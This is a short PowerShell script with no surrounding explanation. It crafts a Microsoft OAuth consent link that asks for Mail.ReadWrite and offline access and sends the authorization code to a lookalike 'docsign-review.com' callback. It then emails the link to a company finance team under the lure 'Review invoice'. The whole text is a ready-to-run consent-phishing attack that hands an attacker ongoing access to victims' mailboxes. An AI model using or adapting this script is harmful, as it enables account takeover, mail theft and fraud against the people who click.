$tenantId = "b5c4d3e2-f1a0-4b9c-8d7e-6f5a4b3c2d1e"
$clientId = "4e5f6a7b-8c9d-4e0f-a1b2-c3d4e5f6a7b8"
$link = "https://login.microsoftonline.com/$tenantId/oauth2/v2.0/authorize?client_id=$clientId&response_type=code&redirect_uri=https://app.docsign-review.com/callback&scope=Mail.ReadWrite offline_access&prompt=consent"
Send-MailMessage -To "finance-team@fabrikam.com" -From "noreply@docsign-review.com" -Subject "Review invoice" -Body $link -SmtpServer "mail.docsign-review.com"
